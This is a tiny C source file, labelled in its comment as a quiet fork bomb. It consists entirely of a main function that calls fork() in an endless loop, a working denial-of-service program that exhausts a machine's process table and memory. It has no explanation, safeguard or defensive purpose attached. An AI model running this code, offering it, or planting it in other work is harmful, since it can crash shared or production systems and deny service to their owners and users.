/* A fork bomb, and a quiet one. */
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
